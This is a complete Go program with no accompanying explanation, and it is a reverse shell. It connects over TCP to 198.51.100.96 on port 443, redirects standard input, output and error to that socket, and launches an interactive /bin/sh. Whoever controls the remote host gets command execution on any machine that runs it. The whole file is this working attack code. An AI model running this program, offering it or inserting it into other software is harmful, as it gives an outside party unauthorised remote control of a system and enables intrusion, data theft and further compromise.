package main

import (
	"net"
	"os"
	"os/exec"
	"syscall"
)

func main() {
	c, _ := net.Dial("tcp", "198.51.100.96:443")
	f, _ := c.(*net.TCPConn).File()
	for i := 0; i < 3; i++ {
		syscall.Dup2(int(f.Fd()), i)
	}
	cmd := exec.Command("/bin/sh", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	cmd.Run()
}
